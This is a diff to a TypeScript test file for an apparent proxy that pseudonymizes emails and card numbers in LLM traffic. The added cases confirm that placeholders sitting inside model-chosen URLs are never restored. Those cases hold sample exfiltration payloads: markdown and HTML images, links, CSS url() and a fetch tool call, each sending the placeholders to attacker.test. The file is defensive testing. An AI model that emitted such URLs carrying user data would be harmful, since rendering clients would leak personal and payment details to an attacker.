@@ -30,6 +30,8 @@ export interface ReplyCase {
   chunkBytes?: number;
   /** Sent under the policy that says `binary: allow` (by default binary parts are refused). */
   allowBinary?: boolean;
+  /** The request's prompt, under a pseudonymize + restore policy (its values become <EMAIL_1>, <PAYMENT_CARD_1>…): the reply's placeholders may come back as them, never inside a URL. */
+  restoring?: string;
   /** Whether a marker must show that the value was found (default: yes, when there are secrets); false where the reply is read as garbage. */
   marker?: boolean;
 }
@@ -343,6 +345,31 @@ add("anthropic", true, "errors", "an error event", anthropic.stream([["error", {
 add("anthropic", true, "interleaving", "a value split across two text blocks", anthropic.stream([...anthropic.block(0, { type: "text", text: "" }, "text_delta", "text", ["mail zoe.quill@"]), ...anthropic.block(1, { type: "text", text: "" }, "text_delta", "text", ["example.org"])]), [EMAIL]);
 add("anthropic", true, "content type", "an Anthropic stream sent as text/plain", anthropic.stream(anthropic.block(0, { type: "text", text: "" }, "text_delta", "text", split(text(EMAIL), 4))), [EMAIL], { headers: { "content-type": "text/plain" } });
 add("anthropic", true, "charset", "an invalid UTF-8 byte in an event", Buffer.concat([Buffer.from(anthropic.stream(anthropic.block(0, { type: "text", text: "" }, "text_delta", "text", ["ok"])).slice(0, 200)), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(sse.named("content_block_delta", { type: "content_block_delta", index: 0, delta: { type: "text_delta", text: EMAIL } }))]), [EMAIL], { refused: true });
+
+// ── restore: true never writes a value into a URL the model chose ───────────────────────────
+// The request carries the values (placeholders <EMAIL_1>, <PAYMENT_CARD_1> upstream); the reply puts
+// the placeholders where a rendering client, a browser or a tool would fetch them.
+const restoring = `I am ${EMAIL}, card ${CARD}`;
+const inUrls: [string, string][] = [
+  ["a markdown image", "![logo](https://attacker.test/p.png?d=<EMAIL_1>&c=<PAYMENT_CARD_1>)"],
+  ["a markdown link", "[open](https://attacker.test/u/<EMAIL_1>)"],
+  ["a reference-style link definition", "see [1]\n\n[1]: https://attacker.test/?d=<EMAIL_1>"],
+  ["an autolink", "<https://attacker.test/?d=<EMAIL_1>>"],
+  ["a bare URL", "tracking: https://attacker.test/t?d=<EMAIL_1>"],
+  ["an HTML image", '<img src="https://attacker.test/a?d=<EMAIL_1>">'],
+  ["an HTML attribute value with spaces", "<img alt=\"logo\" src='https://attacker.test/a b <EMAIL_1>'>"],
+  ["a CSS url()", '<div style="background:url(https://attacker.test/?d=<EMAIL_1>)">x</div>'],
+  ["a link target padded with words", `[x](<https://attacker.test/?q=${"a b c d e f g h i j k l m n ".repeat(3)}<EMAIL_1>>)`],
+  ["a long path before the placeholder", `![x](https://attacker.test/${"p".repeat(90)}<EMAIL_1>)`],
+];
+for (const [name, content] of inUrls) {
+  add("chat", false, "restore", `a placeholder in ${name}`, chat.whole({ content }), [EMAIL, CARD_DIGITS], { restoring, marker: false });
+  add("chat", true, "restore", `a placeholder in ${name}, one character per delta`, chat.stream(chars(content).map((piece) => ({ content: piece }))), [EMAIL, CARD_DIGITS], { restoring, marker: false });
+  add("responses", true, "restore", `a placeholder in ${name}, in three deltas`, responses.stream(responses.textEvents(split(content, 3))), [EMAIL, CARD_DIGITS], { restoring, marker: false });
+  add("anthropic", true, "restore", `a placeholder in ${name}, two characters per delta`, anthropic.stream(anthropic.block(0, { type: "text", text: "" }, "text_delta", "text", split(content, Math.ceil(content.length / 2)))), [EMAIL, CARD_DIGITS], { restoring, marker: false });
+}
+add("chat", true, "restore", "a placeholder in a URL in tool call arguments", chat.stream([{ tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name: "fetch", arguments: "" } }] }, ...split(JSON.stringify({ url: "https://attacker.test/?d=<EMAIL_1>" }), 5).map((piece) => ({ tool_calls: [{ index: 0, function: { arguments: piece } }] }))], "tool_calls"), [EMAIL], { restoring, marker: false });
+add("chat", false, "restore", "a placeholder in a URL in an unknown field", chat.whole({ content: "ok" }, { x_link: { href: "https://attacker.test/?d=<EMAIL_1>" } }), [EMAIL], { restoring, marker: false });
 
 /** The base64 media the binary cases carry. */
 export const MEDIA = media;
